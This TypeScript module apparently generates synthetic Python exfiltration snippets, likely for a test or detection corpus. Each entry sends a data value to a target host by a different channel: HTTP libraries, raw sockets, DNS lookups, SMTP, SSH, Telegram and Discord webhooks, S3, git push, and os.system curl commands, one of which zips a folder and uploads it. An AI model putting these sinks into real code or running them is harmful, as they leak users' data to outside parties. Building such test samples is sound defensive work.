import { urlOf, type Target } from '../target.ts'
import { block, type PyWriter } from './writer.ts'

/** Statements that send an expression's value to a target. */
export type PySink = (w: PyWriter, data: string, target: Target) => string

const path = (w: PyWriter): string => w.random.pick(['/v1/collect', '/api/report', '/log', '/u', '/ingest'])
const url = (w: PyWriter, target: Target): string => w.text(urlOf(target, path(w)))
const coded = (data: string): string => `str(${data}).encode()`
const label = (data: string): string => `str(${data}).encode().hex()[:60]`

export const PY_SINKS: Readonly<Record<string, PySink>> = {
  urllib: (w, data, t) => `${w.fn('urllib.request', 'urlopen')}(${url(w, t)}, data=${coded(data)})`,
  'urllib-request': (w, data, t) =>
    `${w.fn('urllib.request', 'urlopen')}(${w.fn('urllib.request', 'Request')}(${url(w, t)}, data=${coded(data)}, headers={'X-A': 'b'}))`,
  'urllib-query': (w, data, t) =>
    `${w.fn('urllib.request', 'urlopen')}(${url(w, t)} + '?d=' + ${w.fn('urllib.parse', 'quote')}(str(${data})))`,
  urllib3: (w, data, t) => `${w.fn('urllib3', 'PoolManager')}().request('POST', ${url(w, t)}, body=${coded(data)})`,
  requests: (w, data, t) => `${w.fn('requests', 'post')}(${url(w, t)}, json={'d': str(${data})}, timeout=5)`,
  'requests-get': (w, data, t) => `${w.fn('requests', 'get')}(${url(w, t)}, params={'q': str(${data})})`,
  'requests-header': (w, data, t) => `${w.fn('requests', 'get')}(${url(w, t)}, headers={'X-Request-Id': str(${data})})`,
  'requests-session': (w, data, t) => `${w.fn('requests', 'Session')}().post(${url(w, t)}, data=${coded(data)})`,
  'requests-files': (w, data, t) =>
    `${w.fn('requests', 'post')}(${url(w, t)}, files={'file': ('d.txt', ${coded(data)})})`,
  webhook: (w, data, t) =>
    `${w.fn('requests', 'post')}(${w.text(urlOf(t, '/api/webhooks/1042/inert'))}, json={'username': 'bot', 'content': str(${data})})`,
  httpx: (w, data, t) => `${w.fn('httpx', 'post')}(${url(w, t)}, data={'d': str(${data})})`,
  'httpx-client': (w, data, t) =>
    block(`with ${w.fn('httpx', 'Client')}() as client:`, `client.post(${url(w, t)}, content=${coded(data)})`),
  aiohttp: (w, data, t) => {
    const name = w.fresh('send')
    return `${block(`async def ${name}():`, block(`async with ${w.fn('aiohttp', 'ClientSession')}() as s:`, `await s.post(${url(w, t)}, data=${coded(data)})`))}\n${w.fn('asyncio', 'run')}(${name}())`
  },
  'http-client': (w, data, { host, port, scheme }) => {
    const name = w.fresh('conn')
    return `${name} = ${w.fn('http.client', scheme === 'http' ? 'HTTPConnection' : 'HTTPSConnection')}(${w.text(host)}, ${port})\n${name}.request('POST', '${path(w)}', ${coded(data)})`
  },
  socket: (w, data, { host, port }) => {
    const name = w.fresh('s')
    return `${name} = ${w.fn('socket', 'socket')}()\n${name}.connect((${w.text(host)}, ${port}))\n${name}.sendall(${coded(data)})\n${name}.close()`
  },
  'socket-create': (w, data, { host, port }) => {
    const name = w.fresh('s')
    return `${name} = ${w.fn('socket', 'create_connection')}((${w.text(host)}, ${port}), 5)\n${name}.send(${coded(data)})`
  },
  udp: (w, data, { host, port }) =>
    `${w.fn('socket', 'socket')}(2, 2).sendto(${coded(data)}, (${w.text(host)}, ${port}))`,
  'dns-name': (w, data, { host }) => `${w.fn('socket', 'gethostbyname')}(${label(data)} + ${w.text(`.${host}`)})`,
  'dns-resolver': (w, data, { host }) =>
    `${w.fn('dns.resolver', 'resolve')}(${label(data)} + ${w.text(`.${host}`)}, 'TXT')`,
  smtp: (w, data, { host }) => {
    const name = w.fresh('mail')
    return `${name} = ${w.fn('smtplib', 'SMTP')}(${w.text(`smtp.${host}`)}, 587)\n${name}.sendmail('a@a.invalid', ${w.text(`b@${host}`)}, str(${data}))`
  },
  ftp: (w, data, { host }) => {
    const name = w.fresh('ftp')
    return `${name} = ${w.fn('ftplib', 'FTP')}(${w.text(host)}, 'u', 'p')\n${name}.storbinary('STOR d.txt', ${w.fn('io', 'BytesIO')}(${coded(data)}))`
  },
  paramiko: (w, data, { host }) => {
    const name = w.fresh('ssh')
    return `${name} = ${w.fn('paramiko', 'SSHClient')}()\n${name}.connect(${w.text(host)}, username='u', password='p')\n${name}.exec_command('cat > d')[0].write(str(${data}))`
  },
  sftp: (w, data, { host, port }) => {
    const name = w.fresh('tr')
    return `${name} = ${w.fn('paramiko', 'Transport')}((${w.text(host)}, ${port}))\n${name}.connect(username='u', password='p')\n${w.fn('paramiko', 'SFTPClient')}.from_transport(${name}).putfo(${w.fn('io', 'BytesIO')}(${coded(data)}), 'd.txt')`
  },
  telebot: (w, data, t) =>
    `${w.fn('telebot', 'apihelper')}.API_URL = ${w.text(urlOf(t, '/bot{0}/{1}'))}\n${w.fn('telebot', 'TeleBot')}('1042:inert').send_message(1042, str(${data}))`,
  'discord-webhook': (w, data, t) =>
    `${w.fn('discord_webhook', 'DiscordWebhook')}(url=${w.text(urlOf(t, '/api/webhooks/1042/inert'))}, content=str(${data})).execute()`,
  websocket: (w, data, t) =>
    `${w.fn('websocket', 'create_connection')}(${w.text(urlOf(t, '/ws').replace('http', 'ws'))}).send(str(${data}))`,
  xmlrpc: (w, data, t) => `${w.fn('xmlrpc.client', 'ServerProxy')}(${url(w, t)}).put(str(${data}))`,
  pycurl: (w, data, t) => {
    const name = w.fresh('c')
    return `${name} = ${w.fn('pycurl', 'Curl')}()\n${name}.setopt(${name}.URL, ${url(w, t)})\n${name}.setopt(${name}.POSTFIELDS, str(${data}))\n${name}.perform()`
  },
  'system-curl': (w, data, t) =>
    `${w.fn('os', 'system')}(${w.command(`curl -s -X POST ${urlOf(t, path(w))} -d `)} + repr(str(${data})))`,
  'subprocess-curl': (w, data, t) =>
    `${w.fn('subprocess', 'run')}([${w.command('curl')}, '-s', '-d', str(${data}), ${url(w, t)}])`,
  boto: (w, data) =>
    `${w.fn('boto3', 'client')}('s3', aws_access_key_id='AKIAINERT', aws_secret_access_key='inert').put_object(Bucket=${w.text('drop-7f3')}, Key='d', Body=${coded(data)})`,
  telegram: (w, data, t) =>
    `${w.fn('telegram', 'Bot')}('1042:inert', base_url=${w.text(urlOf(t, '/bot'))}).send_message(1042, str(${data}))`,
  'zip-curl': (w, data, t) => {
    const [folder, made, at] = [w.fresh('folder'), w.fresh('made'), w.fresh('at')]
    return [
      `${folder} = '/tmp/inert-d'`,
      `${w.builtin('open')}(${folder} + '/d.txt', 'w').write(str(${data}))`,
      `${made} = ${w.fn('zipfile', 'ZipFile')}(${folder} + '.zip', 'w')`,
      block(
        `for ${at}, _, names in ${w.fn('os', 'walk')}(${folder}):`,
        block('for each in names:', `${made}.write(${w.fn('os.path', 'join')}(${at}, each), each)`),
      ),
      `${made}.close()`,
      `${w.fn('os', 'system')}(${w.command('curl -s -F file=@/tmp/inert-d.zip ')} + ${url(w, t)})`,
    ].join('\n')
  },
  'git-push': (w, data, t) =>
    `${w.builtin('open')}('d.txt', 'w').write(str(${data}))\n${w.fn('os', 'system')}(${w.command(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(t, '/r.git')} HEAD`)})`,
  browser: (w, data, t) =>
    `${w.fn('selenium.webdriver', 'Chrome')}().get(${url(w, t)} + '?d=' + ${w.fn('urllib.parse', 'quote')}(str(${data})))`,
  mailbox: (w, data, { host }) => {
    const name = w.fresh('box')
    return `${name} = ${w.fn('imaplib', 'IMAP4_SSL')}(${w.text(host)})\n${name}.login('u', 'p')\n${name}.append('INBOX', None, None, ${coded(data)})`
  },
  'log-handler': (w, data, { host }) => {
    const name = w.fresh('log')
    return `${name} = ${w.fn('logging', 'getLogger')}('x')\n${name}.addHandler(${w.fn('logging.handlers', 'HTTPHandler')}(${w.text(host)}, '/v', method='POST'))\n${name}.error('%s', str(${data}))`
  },
  blob: (w, data, t) =>
    `${w.fn('azure.storage.blob', 'BlobClient')}.from_blob_url(${url(w, t)}).upload_blob(str(${data}))`,
}
